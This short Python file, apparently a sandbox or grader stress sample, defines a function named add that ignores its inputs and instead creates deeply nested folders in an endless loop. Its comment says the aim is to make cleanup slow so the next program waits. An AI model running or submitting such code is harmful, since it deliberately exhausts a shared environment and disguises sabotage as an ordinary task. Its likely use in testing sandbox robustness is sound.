# makes folders that take longer to remove than to make, so that the next program waits
# timeout: 1
import os


def add(a, b):
    made = 0
    try:
        while True:
            for _ in range(100):
                os.mkdir("d")
                os.chdir("d")
                made += 1
    except OSError:
        return None
